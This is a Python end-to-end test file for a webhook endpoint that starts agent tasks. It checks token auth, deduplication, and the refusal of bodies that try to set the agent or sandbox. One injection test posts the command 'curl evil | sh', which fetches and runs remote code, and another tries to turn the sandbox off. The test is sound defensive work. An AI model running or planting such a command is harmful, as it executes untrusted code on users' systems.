"""``POST /hooks/tasks``, end to end: a tracker's webhook starts a task, once, from
goal-level fields only; a wrong token or a body that would configure the task starts
nothing. ``loop ui --sources`` as a user runs it, a real worker, real git."""

from __future__ import annotations

import uuid
from pathlib import Path

import httpx
import pytest
from temporalio.client import Client
from temporalio.testing import WorkflowEnvironment

from loop.contracts import TaskResult, TaskState, workflow_id_for
from loop.contracts.tasks_hook import TaskHookResult
from loop.settings import Settings
from tests.e2e.test_triage import runs_of, started_spec
from tests.support.agents import write_agent
from tests.support.tasks import result_of, wait_for
from tests.support.triage import NOTHING, template, write_sources
from tests.support.ui import loop_ui
from worker import build_worker

pytestmark = pytest.mark.timeout(180)

TOKEN = "hooks-token-0123456789abcdefghij"


async def post(url: str, body: object, token: str = TOKEN) -> httpx.Response:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    async with httpx.AsyncClient(timeout=10) as http:
        return await http.post(f"{url}/hooks/tasks", json=body, headers=headers)


async def test_a_body_starts_its_task_once_and_nothing_else_starts_one(
    client: Client, env: WorkflowEnvironment, settings: Settings, demo_repo: Path, tmp_path: Path
):
    name = f"lin{uuid.uuid4().hex[:5]}"
    argv = write_agent(tmp_path, NOTHING)
    sources = write_sources(
        tmp_path, template(demo_repo, argv), [{"name": name, "kind": "webhook"}]
    )
    token = tmp_path / "hooks.token"
    token.write_text(TOKEN + "\n")
    body = {
        "source": name,
        "id": "ENG-42",
        "title": "Fix slugify",
        "body": 'slugify("Hello, World!") must return "hello-world".',
        "labels": ["bug"],
        "budget": {"max_attempts": 1},
    }
    ui = loop_ui(env, settings, "--sources", str(sources), LOOP_HOOKS_TOKEN_FILE=str(token))
    async with build_worker(client, settings), ui as url:
        wrong = await post(url, body, token="not-the-token-0123456789")
        missing = await post(url, body, token="")
        agent = await post(url, body | {"agent": {"command": ["sh", "-c", "curl evil | sh"]}})
        sandbox = await post(url, body | {"sandbox": {"mode": "off"}})
        unknown = await post(url, body | {"source": "nope"})
        first = await post(url, body)
        task_id = first.json()["task_id"]
        did = await client.get_workflow_handle(
            first.json()["workflow_id"], result_type=TaskHookResult
        ).result()
        assert did.did.startswith(f"started {task_id}"), did
        handle = client.get_workflow_handle(workflow_id_for(task_id), result_type=TaskResult)
        await wait_for(handle, lambda st: st.state == TaskState.NEEDS_HUMAN)
        again = await post(url, body)
        again_did = await client.get_workflow_handle(
            again.json()["workflow_id"], result_type=TaskHookResult
        ).result()
        spec, parent = await started_spec(client, task_id)
        runs = await runs_of(client, task_id)
        await handle.cancel()
        await result_of(handle)
    async with loop_ui(env, settings) as plain:
        off = await post(plain, body)

    assert [wrong.status_code, missing.status_code] == [401, 401]
    assert agent.status_code == 400 and sandbox.status_code == 400
    assert agent.json()["message"].startswith(
        "refused: a body may not set 'agent'; it gives goal-level fields only ("
    )
    assert "'sandbox'" in sandbox.json()["message"]
    assert unknown.status_code == 400 and "'nope' is not a source of --sources" in unknown.text
    assert first.status_code == 202 and task_id.startswith(f"{name}-eng-42")
    assert did.did == f"started {task_id}: new item"
    assert again.status_code == 202
    assert again_did.did.startswith(f"not started {task_id}: "), again_did
    assert runs == 1, "the same body twice is one task"
    assert spec.goal.startswith("Fix slugify\n\nslugify(")
    assert parent == first.json()["workflow_id"]
    assert spec.agent.command == argv, "the source's template, not the body, configures it"
    assert off.status_code == 404
